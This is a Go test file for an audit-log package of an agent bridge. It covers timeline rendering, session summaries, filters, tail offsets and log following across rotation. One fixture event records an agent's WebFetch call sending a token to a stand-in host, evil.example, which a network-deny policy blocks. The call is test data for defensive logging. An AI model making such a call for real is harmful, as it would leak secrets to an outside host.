package audit

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"testing/synctest"
	"time"

	"github.com/acp-bridge/acp-bridge/internal/golden"
	"github.com/google/go-cmp/cmp"
)

// reviewLog writes the sample session with a second, shorter session in
// the middle and returns the path.
func reviewLog(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	evs := sampleEvents()
	other := []Event{
		{Actor: Actor{ID: "user:ide"}, Action: "session.prompt", Subject: Subject{Kind: "session", Ref: "sess-2"},
			Input: map[string]any{"prompt": []any{map[string]any{"type": "text", "text": "What does\nthis repo do?"}, map[string]any{"type": "resource_link", "uri": "file:///work/README.md"}}}},
		{Actor: Actor{ID: "agent:gemini"}, Action: "tool.call", Subject: Subject{Kind: "tool-call", Ref: "call-9"},
			Policy: &Policy{Ref: "deny-network", Decision: DecisionDeny},
			Metadata: map[string]any{"toolCall": ToolCall{Kind: "tool-call", Session: "sess-2", ToolCallID: "call-9", Tool: "WebFetch",
				Arguments: map[string]any{"url": "https://evil.example/x?token=abcdef123456"}, Error: "denied by policy deny-network"}}},
	}
	all := append(append(append([]Event{}, evs[:3]...), other...), evs[3:]...)
	writeLog(t, path, Options{Now: fixedClock(1500 * time.Millisecond), RunID: "20261121T200000Z-00000001"}, all)
	return path
}

// TestTimelineGolden renders the timeline and the sessions table of
// reviewLog (whole, one session, filtered) and of viewsLog (lifecycle
// hidden, POLICY and BY wrapped; --all, --wide, colour).
func TestTimelineGolden(t *testing.T) {
	review, views := readLog(t, reviewLog(t)), readLog(t, viewsLog(t))
	for _, tc := range []struct {
		golden  string
		entries []Entry
		f       Filter
		opts    TimelineOptions
	}{
		{"show.golden", review, Filter{}, TimelineOptions{}},
		{"show-session.golden", review, Filter{Session: "sess-1"}, TimelineOptions{}},
		// Filtered: the heading still describes the whole session.
		{"show-denied.golden", review, Filter{Decision: DecisionDeny}, TimelineOptions{Sessions: Sessions(review)}},
		{"views-show.golden", views, Filter{}, TimelineOptions{}},
		{"views-show-all.golden", views, Filter{}, TimelineOptions{All: true}},
		{"views-show-wide.golden", views, Filter{}, TimelineOptions{Wide: true}},
		{"views-show-color.golden", views, Filter{}, TimelineOptions{Color: true}},
	} {
		var b bytes.Buffer
		if err := WriteTimeline(&b, matching(tc.entries, tc.f), tc.opts); err != nil {
			t.Fatal(err)
		}
		golden.Check(t, filepath.Join("testdata", tc.golden), b.Bytes())
	}
	for name, entries := range map[string][]Entry{"sessions.golden": review, "views-sessions.golden": views} {
		var b bytes.Buffer
		if err := WriteSessions(&b, Sessions(entries), time.UTC); err != nil {
			t.Fatal(err)
		}
		golden.Check(t, filepath.Join("testdata", name), b.Bytes())
	}
}

// matching returns the entries f matches.
func matching(entries []Entry, f Filter) []Entry {
	var out []Entry
	for _, e := range entries {
		if f.Match(&e) {
			out = append(out, e)
		}
	}
	return out
}

func TestSessions(t *testing.T) {
	entries := readLog(t, reviewLog(t))
	got := Sessions(entries)
	start := time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC)
	at := func(n int) time.Time { return start.Add(time.Duration(n) * 1500 * time.Millisecond) }
	want := []SessionSummary{
		{ID: "sess-1", Run: "20261121T200000Z-00000001", Agent: "agent:claude-code", Start: at(2), End: at(9), Events: 6, Prompts: 1, ToolCalls: 2, Denials: 1, Approvals: 1,
			Decisions: map[string]int{"allow": 1, "deny": 1, "require-approval": 1}},
		{ID: "sess-2", Run: "20261121T200000Z-00000001", Agent: "agent:claude-code", Start: at(4), End: at(5), Events: 2, Prompts: 1, ToolCalls: 1, Denials: 1,
			Decisions: map[string]int{"deny": 1}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Sessions (-want +got):\n%s", diff)
	}
}

func TestFilter(t *testing.T) {
	entries := readLog(t, reviewLog(t))
	tests := []struct {
		name string
		f    Filter
		want []int64 // seqs
	}{
		{"everything", Filter{}, []int64{0, 1, 2, 3, 4, 5, 6, 7, 8, 9}},
		{"session", Filter{Session: "sess-2"}, []int64{3, 4}},
		{"tool any case", Filter{Tool: "bash"}, []int64{5, 6}},
		{"decision", Filter{Decision: "deny"}, []int64{4, 7}},
		{"since", Filter{Since: time.Date(2026, 11, 21, 20, 0, 12, 0, time.UTC)}, []int64{7, 8, 9}},
		{"combined", Filter{Session: "sess-1", Decision: "deny"}, []int64{7}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []int64
			for _, e := range matching(entries, tt.f) {
				got = append(got, e.Seq)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestTailOffset(t *testing.T) {
	path := filepath.Join(t.TempDir(), "f")
	os.WriteFile(path, []byte("a\nbb\nccc\ntorn"), 0o600)
	for n, want := range []int64{9, 5, 2, 0, 0} {
		if got, err := TailOffset(path, n); err != nil || got != want {
			t.Errorf("TailOffset(%d) = %d, %v; want %d", n, got, err, want)
		}
	}
}

// TestFollow appends while Follow runs, across a rotation, and checks that
// every event arrives once, in order. It runs on the fake clock of
// testing/synctest, so the appends, 10 ms apart, interleave with Follow's
// looks the same way in every run, however loaded the machine.
func TestFollow(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "audit.jsonl")
		l, err := Open(path, Options{MaxBytes: 1500, FlushInterval: 20 * time.Millisecond})
		if err != nil {
			t.Fatal(err)
		}
		fl := startFollow(path)
		const n = 30
		for i := range n {
			ev := Event{Actor: Actor{ID: "a"}, Action: "tool.call", Subject: Subject{Kind: "tool-call", Ref: fmt.Sprint("c", i)}, Input: map[string]any{"i": i}}
			if err := l.AppendSync(ev); err != nil {
				t.Fatal(err)
			}
			time.Sleep(10 * time.Millisecond)
		}
		l.Close()
		if rot, _ := rotatedFiles(path); len(rot) == 0 {
			t.Fatal("no rotation happened; the test does not cover it")
		}
		time.Sleep(FollowInterval)
		synctest.Wait() // Follow has looked once more since the last append
		var seqs []int64
		for _, e := range fl.stop(t) {
			seqs = append(seqs, e.Seq)
		}
		want := make([]int64, n)
		for i := range want {
			want[i] = int64(i)
		}
		if diff := cmp.Diff(want, seqs); diff != "" {
			t.Errorf("followed seqs (-want +got):\n%s", diff)
		}
	})
}
